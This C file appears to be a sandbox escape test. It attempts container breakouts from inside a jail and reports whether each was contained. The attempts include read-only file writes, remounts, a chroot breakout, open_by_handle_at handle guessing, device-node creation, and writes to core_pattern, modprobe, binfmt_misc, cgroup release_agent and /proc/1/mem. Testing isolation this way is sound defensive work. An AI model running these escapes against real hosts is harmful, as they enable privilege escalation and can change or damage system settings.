/* SPDX-License-Identifier: MIT */
/*
 * tests/escape/fs_attack.c - filesystem attacks from inside a jail.
 *
 *	fs_attack ro-write NAME FILE        write/truncate/unlink/chmod/create
 *	fs_attack remount NAME DIR FILE     MS_REMOUNT(|MS_BIND) rw, then write
 *	fs_attack setattr NAME DIR FILE     new mount API: clear RDONLY, write
 *	fs_attack umount NAME PATH [FILE MAGIC]  umount a bind/mask, read under
 *	fs_attack oldroot NAME HOSTPATH MAGIC    reach the host root
 *	fs_attack handle NAME MAGIC         open_by_handle_at ("shocker")
 *	fs_attack mknod NAME                create char/block device nodes
 *	fs_attack devopen NAME PATH...      open device nodes (image, rootfs)
 *	fs_attack procsys                   /proc and /sys sensitive files (writes
 *	                                    sysctls: never run it outside a jail)
 *	fs_attack kallsyms                  only the /proc/kallsyms read
 *
 * Prints "contained fs/NAME" or "ESCAPED fs/NAME: ..." (see esc.h).
 */
#include "esc.h"

#include <dirent.h>
#include <linux/mount.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

static char nbuf[256];

static const char *nm(const char *n)
{
	snprintf(nbuf, sizeof(nbuf), "fs/%s", n);
	return nbuf;
}

/* Every write-like operation on FILE and its directory must fail. */
static void ro_write(const char *name, const char *file)
{
	char dir[512], path[600], what[512] = "";
	int fd, n = 0;

	snprintf(dir, sizeof(dir), "%s", file);
	*(strrchr(dir, '/') ? strrchr(dir, '/') : dir) = 0;
	fd = open(file, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, "pwned\n", 6) == 6)
			n += snprintf(what + n, sizeof(what) - n, "appended to %s; ", file);
		close(fd);
	}
	/* Reopen a read-only fd for writing through its /proc magic link. */
	int ro = open(file, O_RDONLY | O_CLOEXEC);
	if (ro >= 0) {
		char l[64];
		snprintf(l, sizeof(l), "/proc/self/fd/%d", ro);
		fd = open(l, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0) {
			if (write(fd, "pwned\n", 6) == 6)
				n += snprintf(what + n, sizeof(what) - n, "wrote via %s; ", l);
			close(fd);
		}
		close(ro);
	}
	if (truncate(file, 0) == 0)
		n += snprintf(what + n, sizeof(what) - n, "truncated; ");
	if (chmod(file, 0777) == 0)
		n += snprintf(what + n, sizeof(what) - n, "chmod; ");
	snprintf(path, sizeof(path), "%s/pwned-new", dir);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd >= 0) {
		n += snprintf(what + n, sizeof(what) - n, "created %s; ", path);
		close(fd);
	}
	snprintf(path, sizeof(path), "%s/pwned-dir", dir);
	if (mkdir(path, 0755) == 0)
		n += snprintf(what + n, sizeof(what) - n, "mkdir %s; ", path);
	snprintf(path, sizeof(path), "%s.renamed", file);
	if (rename(file, path) == 0)
		n += snprintf(what + n, sizeof(what) - n, "renamed; ");
	if (unlink(file) == 0)
		n += snprintf(what + n, sizeof(what) - n, "unlinked; ");
	verdict(n == 0, nm(name), "%s", n ? what : "every write refused");
}

static int try_write(const char *file)
{
	int fd = open(file, O_WRONLY | O_APPEND | O_CLOEXEC);
	int ok;

	if (fd < 0)
		return -errno;
	ok = write(fd, "pwned\n", 6) == 6 ? 0 : -errno;
	close(fd);
	return ok;
}

static void remount(const char *name, const char *dir, const char *file)
{
	int a = mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL) ? errno : 0;
	int b = mount("none", dir, NULL, MS_REMOUNT, NULL) ? errno : 0;
	int c = mount(dir, dir, NULL, MS_BIND | MS_REC, NULL) ? errno : 0;
	int w = try_write(file);

	verdict(w < 0, nm(name), "remount,bind: %s; remount: %s; rebind: %s; write: %s",
		err_name(a), err_name(b), err_name(c), err_name(w));
}

static void setattr(const char *name, const char *dir, const char *file)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	int e1 = fd < 0 ? errno : 0, e2 = 0, e3 = e1, w;

	/* On the mount itself, then on a clone moved over it. */
	if (syscall(SYS_mount_setattr, AT_FDCWD, dir, 0, &attr, sizeof(attr)) < 0)
		e2 = errno;
	if (fd >= 0) {
		if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0 ||
		    syscall(SYS_move_mount, fd, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH) < 0)
			e3 = errno;
		close(fd);
	}
	/* fsopen/fsmount a fresh filesystem is the other half of the API. */
	int fs = (int)syscall(SYS_fsopen, "tmpfs", 0);
	int e4 = fs < 0 ? errno : 0;
	if (fs >= 0)
		close(fs);
	w = try_write(file);
	verdict(w < 0 && e4, nm(name),
		"open_tree: %s; mount_setattr: %s; clone+move: %s; fsopen: %s; write: %s",
		err_name(e1), err_name(e2), err_name(e3), err_name(e4), err_name(w));
}

static void do_umount(const char *name, const char *path, const char *file, const char *magic)
{
	int a = umount2(path, MNT_DETACH) ? errno : 0;
	int b = umount2(path, 0) ? errno : 0;
	int leak = file && magic && holds_magic(AT_FDCWD, file, magic);

	verdict(a && b && !leak, nm(name), "umount2(MNT_DETACH): %s; umount: %s%s", err_name(a),
		err_name(b), leak ? "; the masked file is readable" : "");
}

/* Does any of these ways to the host root show the magic file? */
static void oldroot(const char *name, const char *hostpath, const char *magic)
{
	char p[1024], found[512] = "";
	int n = 0;
	DIR *d;
	struct dirent *de;

	const char *pre[] = {"/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd",
			     "/proc/1/root/.."};
	for (size_t i = 0; i < ARRAY_SIZE(pre); i++) {
		snprintf(p, sizeof(p), "%s%s", pre[i], hostpath);
		if (holds_magic(AT_FDCWD, p, magic))
			n += snprintf(found + n, sizeof(found) - n, "%s; ", p);
	}
	/* Walk up with .. from /, then with chdir. */
	snprintf(p, sizeof(p), "/");
	for (int i = 0; i < 40; i++)
		strncat(p, "../", sizeof(p) - strlen(p) - 1);
	strncat(p, hostpath + 1, sizeof(p) - strlen(p) - 1);
	if (holds_magic(AT_FDCWD, p, magic))
		n += snprintf(found + n, sizeof(found) - n, "../.. walk; ");
	for (int i = 0; i < 40; i++)
		if (chdir("..") < 0)
			break;
	if (holds_magic(AT_FDCWD, hostpath + 1, magic))
		n += snprintf(found + n, sizeof(found) - n, "chdir .. walk; ");
	/* A chroot into a subdirectory, then out of it (classic breakout). */
	if (mkdir("/tmp/jail", 0755) == 0 || errno == EEXIST) {
		if (chroot("/tmp/jail") == 0) {
			for (int i = 0; i < 40; i++)
				if (chdir("..") < 0)
					break;
			if (chroot(".") == 0 && holds_magic(AT_FDCWD, hostpath, magic))
				n += snprintf(found + n, sizeof(found) - n, "chroot breakout; ");
		}
		rmdir("/tmp/jail");
	}
	/* Every root, cwd and open fd of every visible process. */
	d = opendir("/proc");
	while (d && (de = readdir(d))) {
		if (de->d_name[0] < '1' || de->d_name[0] > '9')
			continue;
		const char *links[] = {"root", "cwd"};
		for (size_t i = 0; i < 2; i++) {
			snprintf(p, sizeof(p), "/proc/%s/%s%s", de->d_name, links[i], hostpath);
			if (holds_magic(AT_FDCWD, p, magic))
				n += snprintf(found + n, sizeof(found) - n, "%s; ", p);
		}
		snprintf(p, sizeof(p), "/proc/%s/fd", de->d_name);
		DIR *fdd = opendir(p);
		struct dirent *fe;
		while (fdd && (fe = readdir(fdd))) {
			if (fe->d_name[0] == '.')
				continue;
			char fp[600];
			snprintf(fp, sizeof(fp), "/proc/%s/fd/%s", de->d_name, fe->d_name);
			int fd = open(fp, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			/* From a directory fd: .. upwards, then the host path. */
			char rel[800] = "";
			for (int i = 0; i < 30; i++)
				strncat(rel, "../", sizeof(rel) - strlen(rel) - 1);
			strncat(rel, hostpath + 1, sizeof(rel) - strlen(rel) - 1);
			if (holds_magic(fd, rel, magic) || holds_magic(fd, hostpath + 1, magic))
				n += snprintf(found + n, sizeof(found) - n, "via %s; ", fp);
			close(fd);
		}
		if (fdd)
			closedir(fdd);
	}
	if (d)
		closedir(d);
	verdict(n == 0, nm(name), "%s", n ? found : "host file not reachable");
}

/* CVE-2014-3519 style: guess handles of the host's root filesystem. */
static void handle(const char *name)
{
	struct {
		struct file_handle fh;
		unsigned char buf[MAX_HANDLE_SZ];
	} h;
	int mnt = -1, e1, opened = 0, e2 = 0;

	h.fh.handle_bytes = MAX_HANDLE_SZ;
	e1 = name_to_handle_at(AT_FDCWD, "/", &h.fh, &mnt, 0) ? errno : 0;
	int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (e1) { /* fabricate an ext4-like handle: inode 2, generation 0 */
		h.fh.handle_bytes = 8;
		h.fh.handle_type = 1;
		memset(h.buf, 0, 8);
	}
	for (unsigned ino = 2; ino < 64; ino++) {
		if (h.fh.handle_bytes >= 4)
			memcpy(h.fh.f_handle, &ino, 4);
		int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			e2 = errno;
			continue;
		}
		opened++;
		close(fd);
	}
	close(mfd);
	verdict(!opened, nm(name), "name_to_handle_at: %s; open_by_handle_at: %s (%d opened)",
		err_name(e1), err_name(e2), opened);
}

static void do_mknod(const char *name)
{
	struct {
		const char *path;
		mode_t type;
		int maj, min;
	} n[] = {
	    {"/tmp/mem", S_IFCHR, 1, 1},    {"/tmp/kmsg", S_IFCHR, 1, 11},
	    {"/mem", S_IFCHR, 1, 1},	    {"/dev/shm/mem", S_IFCHR, 1, 1},
	    {"/tmp/sda", S_IFBLK, 8, 0},    {"/tmp/vda", S_IFBLK, 254, 0},
	    {"/tmp/loop0", S_IFBLK, 7, 0},  {"/tmp/dm0", S_IFBLK, 253, 0},
	    {"/tmp/nvme", S_IFBLK, 259, 0},
	};
	char what[512] = "";
	int k = 0, made = 0;

	for (size_t i = 0; i < ARRAY_SIZE(n); i++) {
		if (mknod(n[i].path, n[i].type | 0666, makedev(n[i].maj, n[i].min)) < 0)
			continue;
		made++;
		int fd = open(n[i].path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0) {
			k +=
			    snprintf(what + k, sizeof(what) - k, "made and opened %s; ", n[i].path);
			close(fd);
		}
	}
	verdict(k == 0, nm(name), "%s%d nodes made, none usable", what, made);
}

static void devopen(const char *name, int n, char **paths)
{
	char what[512] = "";
	int k = 0;

	for (int i = 0; i < n; i++) {
		struct stat st;
		if (lstat(paths[i], &st) < 0 || !(S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
			continue; /* not there, or not a device: nothing to open */
		int fd = open(paths[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0) {
			char b[16];
			ssize_t r = read(fd, b, sizeof(b));
			k += snprintf(what + k, sizeof(what) - k, "opened %s (read %zd); ",
				      paths[i], r);
			close(fd);
		}
	}
	verdict(k == 0, nm(name), "%s", k ? what : "no device node opened");
}

/* Is any address in /proc/kallsyms non-zero? */
static int kallsyms_leak(void)
{
	FILE *f = fopen("/proc/kallsyms", "re");
	char line[256];
	int leak = 0;

	if (!f)
		return 0;
	for (int i = 0; i < 200 && fgets(line, sizeof(line), f); i++)
		if (strtoull(line, NULL, 16) != 0)
			leak = 1;
	fclose(f);
	return leak;
}

static void procsys(void)
{
	char buf[4096];
	ssize_t r;
	int w;

	r = slurp("/proc/kcore", buf, sizeof(buf));
	verdict(r <= 0, nm("proc-kcore"), "read: %s",
		r < 0 ? err_name((int)r)
		: r   ? "data"
		      : "empty");
	verdict(!kallsyms_leak(), nm("proc-kallsyms"), "no kernel address readable");
	w = spit("/proc/sysrq-trigger", "h");
	verdict(w < 0, nm("proc-sysrq-trigger"), "write: %s", err_name(w));
	w = spit("/proc/sys/kernel/hostname", "pwned-by-jail");
	verdict(w < 0, nm("proc-sys-hostname"), "write: %s", err_name(w));
	r = slurp("/proc/sys/vm/swappiness", buf, sizeof(buf));
	snprintf(buf, sizeof(buf), "%d", r > 0 ? (atoi(buf) + 7) % 100 : 13);
	w = spit("/proc/sys/vm/swappiness", buf);
	verdict(w < 0, nm("proc-sys-vm-swappiness"), "write: %s", err_name(w));
	w = spit("/proc/sys/kernel/core_pattern", "|/tmp/pwned %p");
	verdict(w < 0, nm("proc-sys-core-pattern"), "write: %s", err_name(w));
	w = spit("/proc/sys/kernel/modprobe", "/tmp/pwned");
	verdict(w < 0, nm("proc-sys-modprobe"), "write: %s", err_name(w));
	w = spit("/proc/sys/fs/binfmt_misc/register", ":pwn:M::PWN::/tmp/pwned:");
	verdict(w < 0, nm("binfmt-misc-register"), "write: %s", err_name(w));
	const char *sysw[] = {"/sys/kernel/mm/transparent_hugepage/enabled",
			      "/sys/kernel/uevent_helper",
			      "/sys/power/state",
			      "/sys/class/net/lo/mtu",
			      "/sys/fs/cgroup/pids/pids.max",
			      "/sys/fs/cgroup/memory/memory.limit_in_bytes",
			      "/sys/fs/cgroup/unified/cgroup.subtree_control",
			      "/sys/fs/cgroup/memory/release_agent",
			      "/sys/fs/cgroup/memory/notify_on_release",
			      "/sys/fs/cgroup/pids/cgroup.procs",
			      "/sys/fs/cgroup/unified/cgroup.procs",
			      "/sys/fs/cgroup/freezer/freezer.state"};
	const char *sysv[] = {"never", "/tmp/pwned", "freeze", "1280", "max", "-1",
			      "+pids", "/tmp/pwned", "1",      "0",    "0",   "FROZEN"};
	char what[1024] = "";
	int k = 0;
	for (size_t i = 0; i < ARRAY_SIZE(sysw); i++) {
		w = spit(sysw[i], sysv[i]);
		if (w == 0)
			k += snprintf(what + k, sizeof(what) - k, "wrote %s; ", sysw[i]);
	}
	/* CVE-2022-0492: a child cgroup with a release_agent needs mkdir. */
	const char *cg[] = {"/sys/fs/cgroup/memory/pwn", "/sys/fs/cgroup/pids/pwn",
			    "/sys/fs/cgroup/unified/pwn", "/sys/fs/cgroup/systemd/pwn"};
	for (size_t i = 0; i < ARRAY_SIZE(cg); i++)
		if (mkdir(cg[i], 0755) == 0) {
			k += snprintf(what + k, sizeof(what) - k, "mkdir %s; ", cg[i]);
			rmdir(cg[i]);
		}
	verdict(k == 0, nm("sys-write"), "%s",
		k ? what : "every /sys and cgroup write or mkdir refused");
	/* pid 1's memory: read it, write it. */
	int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
	int e = fd < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	fd = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
	int e2 = fd < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	verdict(e && e2, nm("proc-pid1-mem"), "open rw: %s; open ro: %s", err_name(e),
		err_name(e2));
	/* A fresh, unmasked procfs (or sysfs) would undo every mask. */
	mkdir("/tmp/p", 0755);
	int m1 = mount("proc", "/tmp/p", "proc", 0, NULL) ? errno : 0;
	if (m1)
		m1 = mount("sysfs", "/tmp/p", "sysfs", 0, NULL) ? errno : 0;
	int fsfd = (int)syscall(SYS_fsopen, "proc", 0);
	int m2 = fsfd < 0 ? errno : 0;
	if (fsfd >= 0)
		close(fsfd);
	verdict(m1 && m2, nm("fresh-proc-mount"), "mount proc/sysfs: %s; fsopen(proc): %s",
		err_name(m1), err_name(m2));
	r = slurp("/proc/1/environ", buf, sizeof(buf));
	verdict(r < 0, nm("proc-pid1-environ"), "read: %s", r < 0 ? err_name((int)r) : "readable");
	r = slurp("/proc/keys", buf, sizeof(buf));
	verdict(r <= 0, nm("proc-keys"), "read: %s",
		r < 0 ? err_name((int)r)
		: r   ? "data"
		      : "empty");
	r = slurp("/sys/firmware/efi/efivars", buf, sizeof(buf));
	fd = open("/dev/kmsg", O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	r = fd >= 0 ? read(fd, buf, sizeof(buf)) : -1;
	if (fd >= 0)
		close(fd);
	verdict(r <= 0, nm("kmsg-read"), "%s", r > 0 ? "read the kernel log" : "no kernel log");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		return 2;
	const char *a = argv[1];
	if (!strcmp(a, "ro-write") && argc == 4)
		ro_write(argv[2], argv[3]);
	else if (!strcmp(a, "remount") && argc == 5)
		remount(argv[2], argv[3], argv[4]);
	else if (!strcmp(a, "setattr") && argc == 5)
		setattr(argv[2], argv[3], argv[4]);
	else if (!strcmp(a, "umount") && (argc == 4 || argc == 6))
		do_umount(argv[2], argv[3], argc == 6 ? argv[4] : NULL, argc == 6 ? argv[5] : NULL);
	else if (!strcmp(a, "oldroot") && argc == 5)
		oldroot(argv[2], argv[3], argv[4]);
	else if (!strcmp(a, "handle") && argc == 4)
		handle(argv[2]);
	else if (!strcmp(a, "mknod") && argc == 3)
		do_mknod(argv[2]);
	else if (!strcmp(a, "devopen") && argc >= 4)
		devopen(argv[2], argc - 3, argv + 3);
	else if (!strcmp(a, "procsys"))
		procsys();
	else if (!strcmp(a, "kallsyms"))
		verdict(!kallsyms_leak(), nm("proc-kallsyms"), "no kernel address readable");
	else {
		fprintf(stderr, "fs_attack: bad usage\n");
		return 2;
	}
	return 0;
}
